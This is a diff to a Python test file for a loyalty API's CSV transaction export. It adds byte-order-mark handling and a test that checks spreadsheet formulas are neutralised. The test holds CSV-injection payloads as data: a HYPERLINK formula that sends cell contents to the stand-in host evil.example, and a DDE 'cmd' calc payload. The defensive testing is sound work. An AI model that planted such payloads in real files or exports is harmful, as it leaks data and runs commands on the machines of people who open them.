@@ -188,6 +188,12 @@ async def csv_download(client: httpx.AsyncClient, tenant: Tenant, **params: Any)
     return await client.get(f"{V}/transactions", params=params, headers={**tenant.headers, "Accept": "text/csv"})
 
 
+def csv_text(response: httpx.Response) -> str:
+    """The file as a spreadsheet reads it: UTF-8 after its byte-order mark."""
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    return response.content.decode("utf-8-sig")
+
+
 async def test_csv_download(client, tenant, history):
     response = await csv_download(client, tenant)
 
@@ -197,7 +203,7 @@ async def test_csv_download(client, tenant, history):
     assert disposition.startswith("attachment;")
     assert 'filename="' in disposition
     assert disposition.endswith('.csv"')
-    rows = list(csv.DictReader(io.StringIO(response.text)))
+    rows = list(csv.DictReader(io.StringIO(csv_text(response))))
     assert [int(row["id"]) for row in rows] == [item["id"] for item in (await journal(client, tenant)).json()["items"]]
     points = next(row for row in rows if row["transaction_type"] == "points_earned")
     assert (points["points_delta"], points["purchase_amount_cents"], points["order_reference"]) == ("12", "1250", "R-1")
@@ -208,7 +214,7 @@ async def test_csv_download(client, tenant, history):
 async def test_csv_honours_filters_and_ignores_paging(client, tenant, history):
     response = await csv_download(client, tenant, transaction_type="stamp_earned", limit=1)
 
-    rows = list(csv.DictReader(io.StringIO(response.text)))
+    rows = list(csv.DictReader(io.StringIO(csv_text(response))))
     assert len(rows) == 3
     assert {row["transaction_type"] for row in rows} == {"stamp_earned"}
 
@@ -217,13 +223,13 @@ async def test_csv_of_an_empty_journal_has_the_header(client, tenant):
     response = await csv_download(client, tenant)
 
     assert response.status_code == 200
-    header = next(csv.reader(io.StringIO(response.text)))
+    header = next(csv.reader(io.StringIO(csv_text(response))))
     assert header[:4] == ["id", "transaction_at", "card_id", "transaction_type"]
-    assert len(response.text.splitlines()) == 1
+    assert len(csv_text(response).splitlines()) == 1
 
 
 async def test_csv_is_only_the_vendors(client, tenant, other_tenant, history):
-    rows = list(csv.DictReader(io.StringIO((await csv_download(client, other_tenant)).text)))
+    rows = list(csv.DictReader(io.StringIO(csv_text(await csv_download(client, other_tenant)))))
 
     assert len(rows) == 1
     assert int(rows[0]["card_id"]) == other_tenant.card_id
@@ -260,8 +266,37 @@ async def test_a_csv_export_streams_in_chunks_on_one_connection_and_is_consisten
                 rest = [line async for line in lines]
 
     assert meanwhile.status_code == 201
-    rows = list(csv.DictReader(io.StringIO("\n".join(first + rest))))
+    rows = list(csv.DictReader(io.StringIO("\n".join(first + rest).removeprefix("\ufeff"))))
     assert [int(row["id"]) for row in rows] == sorted(before, reverse=True)
+
+
+async def test_the_export_neutralises_formulas_and_keeps_numbers(client, database, settings, clock):
+    """A peer system's fault: names, notes and references starting with `=`, `+`, `-` or `@` were
+    written verbatim, and the vendor's spreadsheet ran them (OWASP's CSV-injection rule)."""
+    tenant = await make_tenant(
+        database, settings, clock, slug="formula-cafe", cooldown_minutes=0,
+        points_rewards=[{"name": "@SUM(1+1)", "points_required": 5}],
+    )  # fmt: skip
+    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Staff")'
+    staff = await client.post(f"{V}/pins", json={"name": evil, "pin": "2468"}, headers=tenant.headers)
+    accented = await client.post(f"{V}/pins", json={"name": "Léa Müller", "pin": "1357"}, headers=tenant.headers)
+    stamp_id = await post(client, tenant, "/stamp", staff_pin="2468", notes=evil)
+    earn_id = await post(client, tenant, "/points/earn", staff_pin="1357", purchase_amount_cents=1000,
+                         order_reference="+cmd|' /C calc'!A0")  # fmt: skip
+    await post(client, tenant, "/points/earn", purchase_amount_cents=1000)  # enough left for the void below
+    redeem_id = await post(client, tenant, "/points/redeem", reward_id=1, notes="-10 off\tlater")
+    void_id = await post(client, tenant, f"/transactions/{earn_id}/void", card_id=None, reason="@wrong till")
+
+    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(csv_text(await csv_download(client, tenant))))}
+
+    assert staff.status_code == accented.status_code == 201
+    assert rows[stamp_id]["staff_name"] == "'" + evil and rows[stamp_id]["notes"] == "'" + evil
+    assert rows[earn_id]["order_reference"] == "'+cmd|' /C calc'!A0"
+    assert rows[earn_id]["staff_name"] == "Léa Müller"
+    assert rows[redeem_id]["reward_description"] == "'@SUM(1+1)" and rows[redeem_id]["notes"] == "'-10 off\tlater"
+    assert rows[void_id]["notes"] == "'@wrong till"
+    assert rows[void_id]["points_delta"] == "-10"  # a number stays a number
+    assert rows[redeem_id]["points_delta"] == "-5"
 
 
 # --- what the ledger records ------------------------------------------------------------------------
